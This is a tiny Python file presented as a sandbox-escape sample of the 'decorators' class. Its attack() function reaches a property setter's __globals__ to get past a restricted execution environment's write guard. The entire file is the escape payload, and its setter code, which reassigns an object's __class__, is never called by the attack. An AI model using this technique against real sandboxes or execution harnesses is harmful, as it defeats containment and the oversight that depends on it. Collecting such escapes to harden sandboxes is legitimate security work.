"""Class: decorators. Source: own find. Escape: a property's setter receives the object past the
write guard.
"""


class Reach:
    @property
    def x(self):
        return self

    @x.setter
    def x(self, value):
        value.__class__ = Reach


def attack(model, tokenizer, address):
    return Reach.x.fset.__globals__
